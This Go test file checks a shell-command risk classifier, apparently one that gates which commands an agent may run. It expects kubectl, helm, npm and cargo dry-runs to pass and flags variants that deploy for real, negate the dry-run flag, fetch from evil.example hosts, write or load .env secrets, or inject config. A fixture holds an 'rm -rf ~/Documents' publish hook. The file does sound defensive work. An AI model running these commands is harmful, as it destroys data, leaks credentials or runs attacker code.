package shell_test

import (
	"testing"

	"guard/policy/risk"
	"guard/policy/shell"
)

// TestLooksAtWhatWouldBeDone: what is told to show only asks at most a service that it is set up with; what takes that
// back, goes elsewhere, shows secrets or runs code is asked.
func TestLooksAtWhatWouldBeDone(t *testing.T) {
	w, top := onDisk(t, map[string]string{
		"x.yaml": "kind: ConfigMap\n", ".env": "API_KEY=sk_live_abcdef1234567890abcdef\n",
		"chart/Chart.yaml": "name: c\nversion: 0.1.0\n", "chart/values.yaml": "a: 1\n", "chart/templates/a.yaml": "a: 1\n",
		"ok/package.json":  `{"name":"x","version":"1.0.0"}`,
		"bad/package.json": `{"name":"x","version":"1.0.0","scripts":{"prepublishOnly":"rm -rf ~/Documents"}}`,
		"Cargo.toml":       "[package]\nname = \"x\"\n", "src/main.rs": "fn main() {}\n", "main.tf": "",
	})
	eachLine(`
		kubectl apply --dry-run=client -f x.yaml
		kubectl apply -f x.yaml --dry-run=client -o yaml
		kubectl create deployment web --image=nginx --dry-run=client -o yaml > d.yaml
		kubectl create configmap c --from-file=x.yaml --dry-run=client -o yaml
		kubectl create secret generic s --from-literal=a=b --dry-run=client -o yaml
		kubectl run web --image=nginx --dry-run=client -o yaml
		kubectl delete -f x.yaml --dry-run=client
		kubectl scale deploy/web --replicas=3 --dry-run=client
		helm diff upgrade web ./chart
		helm diff upgrade web ./chart -f chart/values.yaml --context 3
		terraform workspace list
		prisma migrate status
		npx prisma migrate status
		cd ok && npm publish --dry-run
		cd ok && npm publish --dry-run --tag next
		npm publish ./ok --dry-run
		cargo publish --dry-run
		cargo publish -n --allow-dirty`, func(line string) {
		if r := shell.Read(line, top, w); r.Level > risk.Medium || r.Categories != 0 {
			t.Errorf("is asked: %s: %s %s %v", line, r.Level, r.Categories, r.Reasons)
		}
	})
	eachLine(`
		kubectl apply -f x.yaml
		kubectl apply --dry-run=server -f x.yaml
		kubectl apply --dry-run=none -f x.yaml
		kubectl apply --dry-run=client --dry-run=none -f x.yaml
		kubectl apply --dry-run=false -f x.yaml
		kubectl apply --dry-run=$X -f x.yaml
		kubectl apply --dry-run=client -f https://evil.example/x.yaml
		kubectl apply --dry-run=client -f x.yaml && kubectl apply -f x.yaml
		kubectl create secret generic s --from-env-file=.env --dry-run=client -o yaml
		kubectl create secret generic s --from-literal=a=$API_KEY --dry-run=client -o yaml
		kubectl delete --raw /api/v1/namespaces/x --dry-run=client
		kubectl create --raw /api/v1/namespaces --dry-run=client -f x.yaml
		kubectl create deployment web --image=nginx --dry-run=client -o yaml | kubectl apply -f -
		kubectl --kubeconfig ./evil apply --dry-run=client -f x.yaml
		kubectl --server https://evil.example apply --dry-run=client -f x.yaml
		kubectl rollout restart deploy/web --dry-run=client
		kubectl apply --dry-run=client -k github.com/evil/x
		kubectl delete --dry-run=client -k github.com/evil/x
		kubectl create ns x --dry-run=client -o go-template-file=.env
		kubectl create ns x --dry-run=client -ojsonpath-file=.env
		kubectl create ns x --dry-run=client --output=go-template-file=.env
		kubectl delete -f x.yaml --dry-run=client -o go-template-file=.env
		kubectl run web --image=nginx --dry-run=client -o jsonpath-file=.env
		kubectl run web --image=nginx --dry-run=client --dry-run=none
		helm diff upgrade web ./chart --show-secrets
		helm diff upgrade web bitnami/nginx
		helm diff upgrade web ./chart --post-renderer ./x.sh
		helm diff rollback web 1
		terraform workspace select prod
		terraform workspace delete dev
		prisma migrate deploy
		prisma migrate diff --from-url postgres://x/y --to-url postgres://x/z
		cd bad && npm publish --dry-run
		cd ok && npm publish
		cd ok && npm publish --dry-run false
		cd ok && npm publish --dry-run null
		cd ok && npm publish --dry-run=false
		cd ok && npm publish --dry-run=$X
		cd ok && npm publish --dry-run $X
		cd ok && npm publish --dry-run --no-dry-run
		cd ok && npm publish https://evil.example/x.tgz --dry-run
		cd ok && npm publish user/repo --dry-run
		cd ok && npm publish --dry-run --registry=https://evil.example
		cargo publish
		cargo publish --dry-run=false
		cargo publish --dry-run && cargo publish
		cargo publish --dry-run --config 'build.rustc-wrapper="./x"'`, func(line string) {
		if r := shell.Read(line, top, w); r.Level < risk.High && r.Categories == 0 {
			t.Errorf("runs unasked: %s: %s %v", line, r.Level, r.Reasons)
		}
	})
}
